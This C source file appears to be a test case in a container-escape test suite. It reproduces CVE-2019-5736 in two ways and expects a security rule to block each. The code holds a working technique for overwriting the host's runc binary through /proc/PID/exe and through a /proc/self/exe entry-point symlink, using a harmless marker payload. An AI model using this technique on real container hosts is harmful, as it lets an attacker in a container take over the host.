// SPDX-License-Identifier: GPL-2.0-only
/*
 * `docker exec` brings a process of the runtime's into the container; its
 * /proc/PID/exe is the runtime's program on the host, and may be written as
 * soon as nobody executes it. The next `docker exec` is the attacker's.
 * CVE-2019-5736, both ways.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "escape.h"
#include "host.h"
#include "tap.h"

#define RUNTIME		TOP "/runc"
#define RUNTIME_SECONDS	6
#define HELD		9

static const char evil[] = "#!/bin/sh\necho mine >" OWNED "\n";

static struct box runtime;

static void make_runtime(struct args *a)
{
	(void)a;
	copy_self(RUNTIME);
}

/* A number of the container's, as the host counts: its first process. */
static pid_t first_process(const struct box *b)
{
	char path[256], text[256];

	snprintf(path, sizeof(path), CGROUPS "/%s/cgroup.procs", b->cgroup);
	read_file(path, text, sizeof(text));
	return atoi(text);
}

/*
 * What runc does between its start and the container's program: into the
 * cgroup, into the namespaces, and on in a child that is there, too.
 */
static int act_enter(const struct args *a)
{
	int pidfd = syscall(SYS_pidfd_open, a->n[0], 0), error;
	pid_t pid;

	error = write_file(a->path, "0");
	if (error)
		return error;
	if (setns(pidfd, CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWUTS))
		return errno;
	close(pidfd);
	pid = fork();
	if (pid < 0)
		return errno;
	/* Nobody on the host executes the program meanwhile: as it's with shims. */
	if (pid)
		_exit(0);
	alarm(a->n[1]);
	return 0;
}

static void enter(struct box *b, long lifetime)
{
	struct args a = { .n = { first_process(b), lifetime } };

	snprintf(a.path, sizeof(a.path), CGROUPS "/%s/cgroup.procs", b->cgroup);
	box_open(&runtime, NULL);
	errno = box_exec(&runtime, RUNTIME);
	if (!errno)
		errno = box_become(&runtime, act_enter, &a);
	if (errno)
		bail("enter the container: %m");
}

static void enter_for_a_while(struct box *b, struct args *a)
{
	(void)a;
	enter(b, RUNTIME_SECONDS);
}

static int overwrite(int fd)
{
	char path[64];
	int tries, out;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (tries = 0; tries < 400; tries++) {
		out = open(path, O_WRONLY | O_TRUNC);
		if (out >= 0)
			return write(out, evil, sizeof(evil) - 1) < 0 ? errno : 0;
		if (errno != ETXTBSY)
			return errno;
		usleep(50000);
	}
	return ETXTBSY;
}

/* Wait for a newcomer that isn't of our own program. */
static int by_newcomer(const struct args *a)
{
	char path[64];
	int pid, fd;

	(void)a;
	for (pid = 2; pid < 64; pid++) {
		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		if (pid == getpid())
			continue;
		fd = open(path, O_RDONLY);
		if (fd >= 0)
			return overwrite(fd);
		if (errno != ENOENT)
			return errno;
	}
	return ESRCH;
}

/* The entry point is a link that makes the runtime execute itself. */
static int act_make_entry(const struct args *a)
{
	(void)a;
	unlink("/entry");
	return symlink("/proc/self/exe", "/entry") ? errno : 0;
}

/* In the runtime's program, as a library of the attacker's would. */
static int act_hold_self(const struct args *a)
{
	int fd = open("/proc/self/exe", O_RDONLY);

	(void)a;
	if (fd < 0)
		return errno;
	return dup2(fd, HELD) != HELD ? errno : 0;
}

static int act_overwrite_held(const struct args *a)
{
	(void)a;
	return overwrite(HELD);
}

static int by_entry(struct box *b, const struct args *a)
{
	int error = box_do(b, act_make_entry, a, NULL);

	enter(b, 0);
	if (!error)
		error = box_exec(&runtime, "/entry");
	if (!error)
		error = box_become(&runtime, act_hold_self, a);
	if (!error)
		error = box_exec(&runtime, "/helper");
	if (!error)
		error = box_do(&runtime, act_overwrite_held, a, NULL);
	return error;
}

/* The administrator's next `docker exec`. */
static bool next_use_is_evil(void)
{
	char out[256], head[3] = "";

	read_file(RUNTIME, head, sizeof(head));
	if (strcmp(head, "#!"))
		return false;
	RUN(out, RUNTIME);
	return owned();
}

static void end_runtime(void)
{
	box_close(&runtime);
}

const struct escape proc_exe[] = {
	{ "the runtime's program by /proc/PID/exe", { .caps = ALL_CAPS },
	  make_runtime, enter_for_a_while, by_newcomer,
	  .escaped = next_use_is_evil, .restore = end_runtime, .error = EACCES,
	  .act = BULKHEAD_ACT_PTRACE, .rule = "preset ptrace" },
	{ "the runtime's program by an entry point that is /proc/self/exe", { 0 },
	  make_runtime, .scene = by_entry, .escaped = next_use_is_evil,
	  .restore = end_runtime, .error = EACCES,
	  .act = BULKHEAD_ACT_EXEC, .rule = "preset setns" },
	{ NULL }
};
